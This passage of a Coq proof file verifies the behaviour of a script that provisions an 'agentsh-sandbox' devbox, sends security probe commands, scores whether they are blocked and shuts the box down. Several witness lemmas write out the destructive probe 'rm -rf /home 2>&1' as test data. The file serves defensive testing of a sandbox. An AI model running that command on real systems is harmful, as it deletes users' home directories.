     (snd (Full.run_on Consoles.console_cancelled Samples.world_ok SECURITY_TESTS 2))
   /\ fst (Full.run_on Consoles.console_cancelled Samples.world_ok SECURITY_TESTS 2)
      = Raise (BaseException "CancelledError")
   /\ count is_shutdown
        (snd (Full.run_on Consoles.console_cancelled Samples.world_ok SECURITY_TESTS 2))
      = 0%nat)
  /\ (reached_running
        (snd (Full.run_on Consoles.console_pipe_closed Samples.world_ok SECURITY_TESTS 2))
      /\ fst (Full.run_on Consoles.console_pipe_closed Samples.world_ok SECURITY_TESTS 2)
         = Raise (Exception "[Errno 32] Broken pipe")
      /\ count is_execute
           (snd (Full.run_on Consoles.console_pipe_closed Samples.world_ok SECURITY_TESTS 2))
         = 20%nat
      /\ count is_shutdown
           (snd (Full.run_on Consoles.console_pipe_closed Samples.world_ok SECURITY_TESTS 2))
         = 0%nat).
Proof.
  split.
  - split; [exists "dbx_1"; apply (nth_error_In _ 23); vm_compute; reflexivity|].
    split; vm_compute; reflexivity.
  - split; [exists "dbx_1"; apply (nth_error_In _ 23); vm_compute; reflexivity|].
    split; [vm_compute; reflexivity|].
    split; vm_compute; reflexivity.
Qed.

(** C6, amended.  Once the [try] of line 292 is entered, that is, once
    the pause that follows the "running" poll has ended, [shutdown] is
    called exactly once in the run, whatever happens in the probe loop:
    it returns, probes raise what the handlers catch, or an exception of
    a call or of a [print] leaves the loop; provided that the [print]
    that opens the [finally] block returns. *)
Theorem C6_shutdown_once_after_the_try_is_entered
    (c : Console) (w : World) (catalog : Catalog) (fuel : nat) :
  Full.try_entered (snd (Full.run_on c w catalog fuel)) ->
  (forall h, print_answer c h Full.cleanup_banner = Returns tt) ->
  count is_shutdown (snd (Full.run_on c w catalog fuel)) = 1%nat.
Proof.
  unfold Full.run_on. intros T B.
  destruct (FullFacts.main_shutdowns c w catalog fuel []) as (_ & _ & H).
  destruct (H T) as [[H1 _] | (_ & h' & e & He & _)]; [exact H1|].
  rewrite B in He. discriminate.
Qed.

Lemma C6_shutdown_once_witness :
  (fst (Full.run_on Consoles.quiet_console Samples.world_ok SECURITY_TESTS 2)
   = Done (mkResults 13 7 0)
   /\ count is_shutdown
        (snd (Full.run_on Consoles.quiet_console Samples.world_ok SECURITY_TESTS 2))
      = 1%nat)
  /\ (fst (Full.run_on Consoles.quiet_console Samples.world_probe_errors
             SECURITY_TESTS 2)
      = Done (mkResults 12 6 2)
      /\ count is_shutdown
           (snd (Full.run_on Consoles.quiet_console Samples.world_probe_errors
                   SECURITY_TESTS 2))
         = 1%nat)
  /\ (fst (Full.run_on Consoles.quiet_console Samples.world_interrupted
             SECURITY_TESTS 2)
      = Raise (BaseException "KeyboardInterrupt")
      /\ count is_shutdown
           (snd (Full.run_on Consoles.quiet_console Samples.world_interrupted
                   SECURITY_TESTS 2))
         = 1%nat)
  /\ (fst (Full.run_on Consoles.console_summary_fails Samples.world_ok
             SECURITY_TESTS 2)
      = Raise (Exception "[Errno 28] No space left on device")
      /\ count is_shutdown
           (snd (Full.run_on Consoles.console_summary_fails Samples.world_ok
                   SECURITY_TESTS 2))
         = 1%nat).
Proof.
  assert (T : forall c w,
            nth_error (snd (Full.run_on c w SECURITY_TESTS 2)) 26
            = Some (EvSleep 10) ->
            Full.try_entered (snd (Full.run_on c w SECURITY_TESTS 2))).
  { intros c w H. exact (nth_error_In _ 26 H). }
  split; [|split; [|split]].
  - split; [vm_compute; reflexivity|].
    apply (C6_shutdown_once_after_the_try_is_entered Consoles.quiet_console
             Samples.world_ok SECURITY_TESTS 2);
      [apply T; vm_compute; reflexivity | intros h; reflexivity].
  - split; [vm_compute; reflexivity|].
    apply (C6_shutdown_once_after_the_try_is_entered Consoles.quiet_console
             Samples.world_probe_errors SECURITY_TESTS 2);
      [apply T; vm_compute; reflexivity | intros h; reflexivity].
  - split; [vm_compute; reflexivity|].
    apply (C6_shutdown_once_after_the_try_is_entered Consoles.quiet_console
             Samples.world_interrupted SECURITY_TESTS 2);
      [apply T; vm_compute; reflexivity | intros h; reflexivity].
  - split; [vm_compute; reflexivity|].
    apply (C6_shutdown_once_after_the_try_is_entered
             Consoles.console_summary_fails Samples.world_ok SECURITY_TESTS 2);
      [apply T; vm_compute; reflexivity | intros h; reflexivity].
Defined.

(* ===================================================================== *)
(** * Further properties of the script *)
(* ===================================================================== *)

(** ** Before the first call (lines 192-212) *)





(** X3.  When reading one of the three configuration files raises, the
    run ends with that exception and has made no call to the Runloop
    service: no blueprint is created from a partial configuration. *)
Theorem unreadable_file_stops_before_any_call (w : World) (catalog : Catalog)
    (fuel : nat) (file : string) (e : exn) :
  In (EvReadText file (Raises e)) (snd (run_on w catalog fuel)) ->
  fst (run_on w catalog fuel) = Raise e
  /\ Forall (fun ev => is_remote ev = false) (snd (run_on w catalog fuel)).
Proof.
  exact (StageFacts.main_run_unreadable catalog fuel _ _ file e
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma unreadable_file_witness :
  fst (run_on MoreSamples.world_no_config SECURITY_TESTS 2)
  = Raise (Exception "[Errno 2] No such file or directory: 'config.yaml'")
  /\ Forall (fun ev => is_remote ev = false)
       (snd (run_on MoreSamples.world_no_config SECURITY_TESTS 2)).
Proof.
  apply (unreadable_file_stops_before_any_call MoreSamples.world_no_config
           SECURITY_TESTS 2 "config.yaml").
  apply (nth_error_In _ 5). vm_compute. reflexivity.
Defined.

(** ** The blueprint and the devbox (lines 220-287) *)

(** X4.  [blueprints.create] is the first call to the service and is made
    at most once.  Before it only the three files were read, all with
    success, and the call carries what was read: the Dockerfile as
    [dockerfile], the two YAML files as the [file_mounts], with the name
    and the launch commands of lines 224-237. *)
Theorem blueprint_is_created_from_the_files_read (w : World)
    (catalog : Catalog) (fuel : nat)
    (name_ dockerfile : string) (mounts : list (string * string))
    (commands : list string) (a : answer string) (pre post : trace) :
  snd (run_on w catalog fuel)
  = pre ++ EvBlueprintsCreate name_ dockerfile mounts commands a :: post ->
  exists default_yaml config_yaml,
    name_ = "agentsh-sandbox"
    /\ mounts = file_mounts default_yaml config_yaml
    /\ commands = launch_commands
    /\ filter is_read pre = files_read dockerfile default_yaml config_yaml
    /\ Forall (fun ev => is_remote ev = false) pre
    /\ Forall (fun ev => is_blueprint_create ev = false) post.
Proof.
  exact (StageFacts.main_run_blueprint_create catalog fuel _ _ _ _ _ _ _ _ _
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma blueprint_is_created_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  exists default_yaml config_yaml,
    "agentsh-sandbox" = "agentsh-sandbox"
    /\ file_mounts "# default.yaml" "# config.yaml"
       = file_mounts default_yaml config_yaml
    /\ launch_commands = launch_commands
    /\ filter is_read (firstn 8 E)
       = files_read "# Dockerfile" default_yaml config_yaml
    /\ Forall (fun ev => is_remote ev = false) (firstn 8 E)
    /\ Forall (fun ev => is_blueprint_create ev = false) (skipn 9 E).
Proof.
  intros E.
  apply (blueprint_is_created_from_the_files_read Samples.world_ok
           SECURITY_TESTS 2 _ _ _ _ (Returns "bpt_1")).
  vm_compute. reflexivity.
Defined.

(** X5.  [devboxes.create] is called at most once, with the id that
    [blueprints.create] returned, and only after the latest poll of that
    blueprint said ["build_complete"]. *)
Theorem devbox_is_created_from_the_built_blueprint (w : World)
    (catalog : Catalog) (fuel : nat)
    (blueprint_id : string) (a : answer string) (pre post : trace) :
  snd (run_on w catalog fuel)
  = pre ++ EvDevboxesCreate blueprint_id a :: post ->
  last_blueprint_poll pre = Some (blueprint_id, Returns "build_complete")
  /\ (exists dockerfile mounts commands,
        In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
              (Returns blueprint_id)) pre)
  /\ Forall (fun ev => is_devbox_create ev = false) pre
  /\ Forall (fun ev => is_devbox_create ev = false) post.
Proof.
  exact (StageFacts.main_run_devbox_create catalog fuel _ _ _ _ _ _
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma devbox_is_created_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  last_blueprint_poll (firstn 18 E) = Some ("bpt_1", Returns "build_complete")
  /\ (exists dockerfile mounts commands,
        In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
              (Returns "bpt_1")) (firstn 18 E))
  /\ Forall (fun ev => is_devbox_create ev = false) (firstn 18 E)
  /\ Forall (fun ev => is_devbox_create ev = false) (skipn 19 E).
Proof.
  intros E.
  apply (devbox_is_created_from_the_built_blueprint Samples.world_ok
           SECURITY_TESTS 2 "bpt_1" (Returns "dbx_1")).
  vm_compute. reflexivity.
Defined.

(** X6.  Every call about a blueprint (a poll, a log retrieval, the
    creation of the devbox from it) names the id that this run's
    [blueprints.create] returned. *)
Theorem calls_name_the_created_blueprint (w : World) (catalog : Catalog)
    (fuel : nat) (ev : event) (id : string) :
  In ev (snd (run_on w catalog fuel)) ->
  blueprint_of ev = Some id ->
  exists dockerfile mounts commands,
    In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
          (Returns id)) (snd (run_on w catalog fuel)).
Proof.
  exact (CountFacts.main_run_blueprint_of catalog fuel _ _ ev id
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma calls_name_the_created_blueprint_witness :
  exists dockerfile mounts commands,
    In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
          (Returns "bpt_B"))
       (snd (run_on Samples.world_build_failed_B SECURITY_TESTS 2)).
Proof.
  apply (calls_name_the_created_blueprint Samples.world_build_failed_B
           SECURITY_TESTS 2
           (EvBlueprintsLogs "bpt_B" (Raises (Exception "logs unavailable")))
           "bpt_B").
  - apply (nth_error_In _ 13). vm_compute. reflexivity.
  - reflexivity.
Defined.

(** X7.  Every call about a devbox (a poll, a command, the shutdown)
    names the id that this run's [devboxes.create] returned. *)
Theorem calls_name_the_created_devbox (w : World) (catalog : Catalog)
    (fuel : nat) (ev : event) (id : string) :
  In ev (snd (run_on w catalog fuel)) ->
  devbox_of ev = Some id ->
  exists blueprint_id,
    In (EvDevboxesCreate blueprint_id (Returns id))
       (snd (run_on w catalog fuel)).
Proof.
  exact (CountFacts.main_run_devbox_of catalog fuel _ _ ev id
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma calls_name_the_created_devbox_witness :
  exists blueprint_id,
    In (EvDevboxesCreate blueprint_id (Returns "dbx_1"))
       (snd (run_on Samples.world_ok SECURITY_TESTS 2)).
Proof.
  apply (calls_name_the_created_devbox Samples.world_ok SECURITY_TESTS 2
           (EvShutdown "dbx_1" (Returns tt)) "dbx_1").
  - apply (nth_error_In _ 188). vm_compute. reflexivity.
  - reflexivity.
Defined.

(** X8.  The loop of lines 244-261 has no bound of its own: as long as
    [blueprints.retrieve] answers with a status other than
    ["build_complete"] and ["build_failed"], every allowance of polls is
    used up, with one 5-second pause after each poll. *)
Theorem blueprint_polling_has_no_timeout (w : World) (id : string)
    (fuel : nat) (h : trace) :
  (forall h', exists status,
      blueprints_retrieve w h' id = Returns status
      /\ status <> "build_complete" /\ status <> "build_failed") ->
  fst (wait_for_blueprint w fuel id h) = OutOfFuel
  /\ count is_blueprint_poll (snd (wait_for_blueprint w fuel id h)) = fuel
  /\ count (is_pause 5) (snd (wait_for_blueprint w fuel id h)) = fuel.
Proof.
  intros Hw. exact (CountFacts.wait_for_blueprint_stuck w id Hw fuel h).
Qed.

Lemma blueprint_polling_witness :
  fst (wait_for_blueprint MoreSamples.world_build_stuck 7 "bpt_1" [])
  = OutOfFuel
  /\ count is_blueprint_poll
       (snd (wait_for_blueprint MoreSamples.world_build_stuck 7 "bpt_1" [])) = 7
  /\ count (is_pause 5)
       (snd (wait_for_blueprint MoreSamples.world_build_stuck 7 "bpt_1" [])) = 7.
Proof.
  apply (blueprint_polling_has_no_timeout MoreSamples.world_build_stuck
           "bpt_1" 7 []).
  intros h'. exists "building". repeat split; discriminate.
Defined.

(** X9.  The loop of lines 273-283 has no bound of its own either: as
    long as [devboxes.retrieve] answers with a status other than
    ["running"], ["failed"] and ["shutdown"], every allowance of polls is
    used up, with one 2-second pause after each poll. *)
Theorem devbox_polling_has_no_timeout (w : World) (id : string)
    (fuel : nat) (h : trace) :
  (forall h', exists status,
      devboxes_retrieve w h' id = Returns status
      /\ status <> "running" /\ status <> "failed" /\ status <> "shutdown") ->
  fst (wait_for_devbox w fuel id h) = OutOfFuel
  /\ count is_devbox_poll (snd (wait_for_devbox w fuel id h)) = fuel
  /\ count (is_pause 2) (snd (wait_for_devbox w fuel id h)) = fuel.
Proof.
  intros Hw. exact (CountFacts.wait_for_devbox_stuck w id Hw fuel h).
Qed.

Lemma devbox_polling_witness :
  fst (wait_for_devbox MoreSamples.world_devbox_stuck 7 "dbx_1" [])
  = OutOfFuel
  /\ count is_devbox_poll
       (snd (wait_for_devbox MoreSamples.world_devbox_stuck 7 "dbx_1" [])) = 7
  /\ count (is_pause 2)
       (snd (wait_for_devbox MoreSamples.world_devbox_stuck 7 "dbx_1" [])) = 7.
Proof.
  apply (devbox_polling_has_no_timeout MoreSamples.world_devbox_stuck
           "dbx_1" 7 []).
  intros h'. exists "provisioning". repeat split; discriminate.
Defined.

(** X11.  Between two polls of the blueprint the script always pauses
    for 5 seconds. *)
Theorem blueprint_polls_are_paced (w : World) (catalog : Catalog)
    (fuel : nat) (pre mid post : trace) (x y : event) :
  snd (run_on w catalog fuel) = pre ++ x :: mid ++ y :: post ->
  is_blueprint_poll x = true ->
  is_blueprint_poll y = true ->
  In (EvSleep 5) mid.
Proof.
  exact (StageFacts.main_run_blueprint_paced catalog fuel _ _ pre mid post x y
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma blueprint_polls_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  In (EvSleep 5) (firstn 2 (skipn 12 E)).
Proof.
  intros E.
  apply (blueprint_polls_are_paced Samples.world_ok SECURITY_TESTS 2
           (firstn 11 E) (firstn 2 (skipn 12 E)) (skipn 15 E)
           (EvBlueprintsRetrieve "bpt_1" (Returns "building"))
           (EvBlueprintsRetrieve "bpt_1" (Returns "build_complete")));
    vm_compute; reflexivity.
Defined.

(** X12.  Between two polls of the devbox the script always pauses for
    2 seconds. *)
Theorem devbox_polls_are_paced (w : World) (catalog : Catalog)
    (fuel : nat) (pre mid post : trace) (x y : event) :
  snd (run_on w catalog fuel) = pre ++ x :: mid ++ y :: post ->
  is_devbox_poll x = true ->
  is_devbox_poll y = true ->
  In (EvSleep 2) mid.
Proof.
  exact (StageFacts.main_run_devbox_paced catalog fuel _ _ pre mid post x y
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma devbox_polls_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  In (EvSleep 2) (firstn 1 (skipn 22 E)).
Proof.
  intros E.
  apply (devbox_polls_are_paced Samples.world_ok SECURITY_TESTS 2
           (firstn 21 E) (firstn 1 (skipn 22 E)) (skipn 24 E)
           (EvDevboxesRetrieve "dbx_1" (Returns "provisioning"))
           (EvDevboxesRetrieve "dbx_1" (Returns "running")));
    vm_compute; reflexivity.
Defined.

(** X13.  A devbox that is reported ["failed"] or ["shutdown"] while the
    script waits for it ends the run with the exception of line 281,
    which names the status.  That happens before the [try] of line 292:
    no command is sent and the devbox is not shut down by the script. *)
Theorem devbox_that_fails_to_start_is_not_shut_down (w : World)
    (catalog : Catalog) (fuel : nat) (id status : string) :
  In (EvDevboxesRetrieve id (Returns status)) (snd (run_on w catalog fuel)) ->
  status = "failed" \/ status = "shutdown" ->
  fst (run_on w catalog fuel)
  = Raise (Exception ("Devbox failed to start: " ++ status))
  /\ count is_shutdown (snd (run_on w catalog fuel)) = 0%nat
  /\ count is_execute (snd (run_on w catalog fuel)) = 0%nat.
Proof.
  exact (StageFacts.main_run_devbox_failed catalog fuel _ _ id status
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma devbox_that_fails_witness :
  fst (run_on MoreSamples.world_devbox_failed SECURITY_TESTS 2)
  = Raise (Exception "Devbox failed to start: failed")
  /\ count is_shutdown
       (snd (run_on MoreSamples.world_devbox_failed SECURITY_TESTS 2)) = 0%nat
  /\ count is_execute
       (snd (run_on MoreSamples.world_devbox_failed SECURITY_TESTS 2)) = 0%nat.
Proof.
  apply (devbox_that_fails_to_start_is_not_shut_down
           MoreSamples.world_devbox_failed SECURITY_TESTS 2 "dbx_1" "failed").
  - apply (nth_error_In _ 23). vm_compute. reflexivity.
  - left. reflexivity.
Defined.

(** X14.  Commands and the shutdown come only after a poll of the devbox
    said ["running"]: in a run where no poll said so (the poll raised, the
    devbox failed, the creation raised) no command is sent and
    [devboxes.shutdown] is never called, also when a devbox was
    created. *)
Theorem devbox_never_seen_running_is_left_alone (w : World)
    (catalog : Catalog) (fuel : nat) :
  ~ reached_running (snd (run_on w catalog fuel)) ->
  count is_execute (snd (run_on w catalog fuel)) = 0%nat
  /\ count is_shutdown (snd (run_on w catalog fuel)) = 0%nat.
Proof.
  unfold run_on. intros Hn.
  destruct (RunFacts.main_ran w catalog fuel [])
    as [(F & _ & _) | (id & E1 & E2 & r2 & a & HE & F1 & P1 & L & _)].
  - split; apply TraceFacts.count_none;
      [now apply TraceFacts.setup_not_execute
      | now apply TraceFacts.setup_not_shutdown].
  - elim Hn. rewrite HE. apply TraceFacts.reached_running_app. left. exists id.
    clear - P1. induction E1 as [|ev E1 IH]; [discriminate|].
    simpl in P1. destruct (last_poll E1) as [p|] eqn:Ep.
    + right. now apply IH.
    + left. destruct ev; try discriminate. now injection P1 as -> ->.
Qed.

Lemma devbox_never_seen_running_witness :
  count is_execute
    (snd (run_on MoreSamples.world_devbox_failed SECURITY_TESTS 2)) = 0%nat
  /\ count is_shutdown
       (snd (run_on MoreSamples.world_devbox_failed SECURITY_TESTS 2)) = 0%nat.
Proof.
  apply (devbox_never_seen_running_is_left_alone
           MoreSamples.world_devbox_failed SECURITY_TESTS 2).
  intros [id H]. vm_compute in H.
  repeat (destruct H as [H | H]; [discriminate H|]). exact H.
Defined.

(** X15.  No command is sent before the 10-second pause of line 287 that
    lets the agentsh daemon start. *)
Theorem no_probe_before_the_daemon_pause (w : World) (catalog : Catalog)
    (fuel : nat) (pre post : trace) (id command_ : string) (timeout : Z)
    (a : answer ExecutionResult) :
  snd (run_on w catalog fuel)
  = pre ++ EvExecuteSync id command_ timeout a :: post ->
  In (EvSleep 10) pre.
Proof.
  exact (StageFacts.main_run_pause catalog fuel _ _ id command_ timeout a
           pre post (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma no_probe_before_the_daemon_pause_witness :
  let E := snd (run_on Samples.world_ok SECURITY_TESTS 2) in
  In (EvSleep 10) (firstn 34 E).
Proof.
  intros E.
  apply (no_probe_before_the_daemon_pause Samples.world_ok SECURITY_TESTS 2
           (firstn 34 E) (skipn 35 E) "dbx_1" "rm -rf /home 2>&1" 30
           (Returns (mkResult 0 (Some "ok") None))).
  vm_compute. reflexivity.
Defined.

(** X27.  The provisioning part catches nothing and retries nothing: when
    a file read, [blueprints.create], [blueprints.retrieve],
    [devboxes.create] or [devboxes.retrieve] raises, that call is the last
    event of the run and the run raises that very exception. *)
Theorem provisioning_errors_end_the_run (w : World) (catalog : Catalog)
    (fuel : nat) (pre post : trace) (ev : event) (e : exn) :
  snd (run_on w catalog fuel) = pre ++ ev :: post ->
  provisioning_error ev = Some e ->
  post = [] /\ fst (run_on w catalog fuel) = Raise e.
Proof.
  exact (ErrorFacts.main_run_provisioning_error catalog fuel _ _ pre post ev e
           (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma provisioning_errors_witness :
  let E := snd (run_on MoreSamples.world_poll_fails SECURITY_TESTS 2) in
  skipn 12 E = []
  /\ fst (run_on MoreSamples.world_poll_fails SECURITY_TESTS 2)
     = Raise (Exception "503 Service Unavailable").
Proof.
  intros E.
  apply (provisioning_errors_end_the_run MoreSamples.world_poll_fails
           SECURITY_TESTS 2 (firstn 11 E) (skipn 12 E)
           (EvBlueprintsRetrieve "bpt_1"
              (Raises (Exception "503 Service Unavailable")))).
  - vm_compute. reflexivity.
  - reflexivity.
Defined.

(** ** The probe loop (lines 293-353) *)

(** X16.  The commands are sent in the order of the catalog, each at
    most once: the commands of a run are a prefix of the commands of the
    catalog, and all of them when the run returns. *)
Theorem commands_are_sent_in_catalog_order (w : World) (catalog : Catalog)
    (fuel : nat) :
  exists rest,
    map command (all_tests catalog)
    = commands_sent (snd (run_on w catalog fuel)) ++ rest
    /\ (forall results,
          fst (run_on w catalog fuel) = Done results -> rest = []).
Proof.
  exact (CountFacts.main_run_commands catalog fuel _ _
           (PathFacts.main_paths w catalog fuel [])).
Qed.

(** X17.  Only commands of the catalog are sent, each with the timeout
    of 30 seconds of line 310. *)
Theorem only_catalog_commands_are_sent (w : World) (catalog : Catalog)
    (fuel : nat) (id command_ : string) (timeout : Z)
    (a : answer ExecutionResult) :
  In (EvExecuteSync id command_ timeout a) (snd (run_on w catalog fuel)) ->
  timeout = 30%Z
  /\ exists test, In test (all_tests catalog) /\ command_ = command test.
Proof.
  exact (CountFacts.main_run_catalog_command catalog fuel _ _ id command_
           timeout a (PathFacts.main_paths w catalog fuel [])).
Qed.

Lemma only_catalog_commands_witness :
  30%Z = 30%Z
  /\ exists test,
       In test (all_tests SECURITY_TESTS)
       /\ "rm -rf /home 2>&1" = command test.
Proof.
  apply (only_catalog_commands_are_sent Samples.world_ok SECURITY_TESTS 2
           "dbx_1" "rm -rf /home 2>&1" 30
           (Returns (mkResult 0 (Some "ok") None))).
  apply (nth_error_In _ 34). vm_compute. reflexivity.
Defined.

(** X18.  The counters that a run returns are read off the answers of
    [execute_sync], test by test, on any console: there is one answer
    per test; [passed] counts the calls that returned a result on which
    the value of [passed] is true and [failed] those on which it is
    false, also when a later [print] of the probe raises; [errors] is at
    least the number of calls that raised and at most the number of
    tests (a [print] of lines 342-344 that raises what the handlers
    catch adds to it), and it is the number of calls that raised when no
    [print] and no pause raises. *)
Theorem counters_follow_the_answers (c : Console) (w : World)
    (catalog : Catalog) (fuel : nat) (results : Results) :
  fst (Full.run_on c w catalog fuel) = Done results ->
  List.length (answers (snd (Full.run_on c w catalog fuel)))
  = List.length (all_tests catalog)
  /\ passed results
     = Z.of_nat
         (List.length
            (filter (scored true)
               (combine (all_tests catalog)
                  (answers (snd (Full.run_on c w catalog fuel))))))
  /\ failed results
     = Z.of_nat
         (List.length
            (filter (scored false)
               (combine (all_tests catalog)
                  (answers (snd (Full.run_on c w catalog fuel))))))
  /\ (Z.of_nat (count is_raised (snd (Full.run_on c w catalog fuel)))
      <= errors results <= Z.of_nat (List.length (all_tests catalog)))%Z
  /\ (Full.quiet c ->
      errors results
      = Z.of_nat (count is_raised (snd (Full.run_on c w catalog fuel)))).
Proof.
  intros H.
  destruct (FullFacts.main_on_counted c w catalog fuel [] results H)
    as (L & Hp & Hf & H1 & H2).
  cbn [passed failed errors] in *. unfold Full.run_on.
  split; [exact L|]. split; [lia|]. split; [lia|]. split; [lia|].
  intros Q. revert H. unfold Full.run_on.
  rewrite (FullFacts.main_on_quiet c w Q). intros H.
  apply (CountFacts.main_run_scores catalog fuel).
  rewrite <- H. apply (PathFacts.main_paths w catalog fuel []).
Qed.

Lemma counters_follow_the_answers_witness :
  let E := snd (Full.run_on Consoles.console_ascii Consoles.world_accent
                  SECURITY_TESTS 2) in
  List.length (answers E) = 20%nat
  /\ 13%Z
     = Z.of_nat
         (List.length
            (filter (scored true) (combine (all_tests SECURITY_TESTS) (answers E))))
  /\ 7%Z
     = Z.of_nat
         (List.length
            (filter (scored false) (combine (all_tests SECURITY_TESTS) (answers E))))
  /\ (Z.of_nat (count is_raised E) <= 1 <= 20)%Z
  /\ count is_raised E = 0%nat.
Proof.
  intros E.
  destruct (counters_follow_the_answers Consoles.console_ascii
              Consoles.world_accent SECURITY_TESTS 2 (mkResults 13 7 1))
    as (H1 & H2 & H3 & H4 & _); [vm_compute; reflexivity|].
  split; [exact H1|]. split; [exact H2|]. split; [exact H3|].
  split; [exact H4 | vm_compute; reflexivity].
Defined.



(** X21.  A run returns only after it has printed the summary with the
    very counters it returns and then shut the devbox down with success:
    the trace ends with the four prints of lines 358-389 and the events
    of the [finally] block. *)
Theorem returned_counters_are_the_printed_summary (w : World)
    (catalog : Catalog) (fuel : nat) (results : Results) :
  fst (run_on w catalog fuel) = Done results ->
  exists pre id,
    snd (run_on w catalog fuel)
    = pre ++ summary results ++ cleanup_events id (Returns tt).
Proof.
  intros H. apply (StageFacts.main_run_summary catalog fuel).
  rewrite <- H. apply (PathFacts.main_paths w catalog fuel []).
Qed.

Lemma returned_counters_witness :
  exists pre id,
    snd (run_on Samples.world_ok SECURITY_TESTS 2)
    = pre ++ summary (mkResults 13 7 0) ++ cleanup_events id (Returns tt).
Proof.
  apply (returned_counters_are_the_printed_summary Samples.world_ok
           SECURITY_TESTS 2 (mkResults 13 7 0)).
  vm_compute. reflexivity.
Defined.

(** ** The text and the verdict of one probe (lines 313-344) *)

(** X22.  A test passes whatever the command did exactly when its
    ["expect"] is neither ["blocked"] nor ["success"]: such a test, for
    instance one with a misspelt expectation, can never fail. *)
Theorem pass_is_unconditional_iff_expectation_is_unknown (t : Test) :
  (forall r, verdict t r = Passed)
  <-> (expect t <> "blocked" /\ expect t <> "success").
Proof.
  unfold verdict, Classifier.passed, passed_on. split.
  - intros H. split; intros He.
    + specialize (H (mkResult 0 None None)). rewrite He in H.
      vm_compute in H. discriminate H.
    + specialize (H (mkResult 1 None None)). rewrite He in H.
      vm_compute in H. discriminate H.
  - intros [Hb Hs] r.
    apply String.eqb_neq in Hb, Hs. now rewrite Hb, Hs.
Qed.

(** X23.  The text kept in [output] has at most 203 characters and does
    not start with white space. *)
Theorem output_is_short_and_left_trimmed (r : ExecutionResult) :
  (String.length (output r) <= 203)%nat
  /\ first_char is_space (output r) = false.
Proof.
  unfold output, combined. split.
  - apply OutputFacts.truncate_length.
  - apply OutputFacts.truncate_first, OutputFacts.strip_first.
Qed.



(** X28.  The "Result:" line is the last thing that a probe which ends
    normally prints, and it names the counter that the probe raised
    last: [PASS] for [passed], [FAIL] for [failed], [ERROR] for [errors].
    That counter is the only one raised, except when the call returned
    and a [print] of lines 342-344 raised an exception that the handlers
    catch: then line 340 has raised [passed] or [failed] already, the
    handler raises [errors] as well, and the line says [ERROR]. *)
Theorem result_line_names_the_last_counter (c : Console) (w : World)
    (id : string) (test : Test) (results results' : Results) (h : trace) :
  fst (Full.run_test c w id test results h) = Done results' ->
  exists v pre,
    snd (Full.run_test c w id test results h)
    = pre ++ [EvPrint ("       Result: [" ++ label v ++ "]")]
    /\ (results' = incr v results
        \/ (v = Errored
            /\ exists result e,
                 In (EvExecuteSync id (command test) 30 (Returns result))
                    (snd (Full.run_test c w id test results h))
                 /\ results' = incr Errored (incr (Classifier.verdict test result) results)
                 /\ is_Exception e = true
                 /\ FullSpecs.report_raised c test result e)).
Proof.
  intros H.
  destruct (FullFacts.run_test_probe_run c w id test results h)
    as [(_ & e & He & _) | (a & P & Q & HE & HP & HQ & Ha)];
    [rewrite He in H; discriminate|].
  rewrite HE. rewrite H in Ha. destruct a as [result | e];
    cbn [FullSpecs.after_call] in Ha.
  - destruct Ha as [[[= ->] (Q' & ->)] | [([= ->] & (Q' & ->) & e & He & Hr)
                                        | (e & [=] & _)]].
    + exists (Classifier.verdict test result),
             (P ++ EvExecuteSync id (command test) 30 (Returns result) :: Q').
      split; [now rewrite <- app_assoc | now left].
    + exists Errored,
             (P ++ EvExecuteSync id (command test) 30 (Returns result) :: Q').
      split; [now rewrite <- app_assoc|]. right. split; [reflexivity|].
      exists result, e. split; [|now split].
      apply in_or_app. right. now left.
  - destruct (is_Exception e).
    + destruct Ha as [[[= ->] (Q' & ->)] | (e' & [=] & _)].
      exists Errored,
             (P ++ EvExecuteSync id (command test) 30 (Raises e) :: Q').
      split; [now rewrite <- app_assoc | now left].
    + now destruct Ha as [[=] _].
Qed.

Lemma result_line_witness :
  exists v pre,
    snd (Full.run_test Consoles.console_ascii Consoles.world_accent "dbx_1"
           (mkTest "List files" "ls -la /home" "success" "File listing")
           (mkResults 4 5 0) [])
    = pre ++ [EvPrint ("       Result: [" ++ label v ++ "]")]
    /\ (mkResults 5 5 1 = incr v (mkResults 4 5 0)
        \/ (v = Errored
            /\ exists result e,
                 In (EvExecuteSync "dbx_1" "ls -la /home" 30 (Returns result))
                    (snd (Full.run_test Consoles.console_ascii
                            Consoles.world_accent "dbx_1"
                            (mkTest "List files" "ls -la /home" "success"
                               "File listing")
                            (mkResults 4 5 0) []))
                 /\ mkResults 5 5 1
                    = incr Errored
                        (incr (Classifier.verdict
                                 (mkTest "List files" "ls -la /home" "success"
                                    "File listing") result)
                           (mkResults 4 5 0))
                 /\ is_Exception e = true
                 /\ FullSpecs.report_raised Consoles.console_ascii
                      (mkTest "List files" "ls -la /home" "success"
                         "File listing") result e)).
Proof.
  apply (result_line_names_the_last_counter Consoles.console_ascii
           Consoles.world_accent "dbx_1"
           (mkTest "List files" "ls -la /home" "success" "File listing")
           (mkResults 4 5 0) (mkResults 5 5 1) []).
  vm_compute. reflexivity.
Defined.

(** X25.  A blocked probe that is scored PASS had a reason in what the
    command really did: a nonzero exit status, or one of the five markers
    somewhere in stdout+stderr, case ignored.  Cutting the text at 200
    characters can hide a marker but never makes one up. *)
Theorem blocked_pass_has_a_cause (t : Test) (r : ExecutionResult) :
  expect t = "blocked" ->
  verdict t r = Passed ->
  exit_status r <> 0%Z \/ blocking_signal (full_text r).
Proof. exact (ClassifierFacts.blocked_passed_sound t r). Qed.

Lemma blocked_pass_witness :
  exit_status MoreSamples.denied_result <> 0%Z
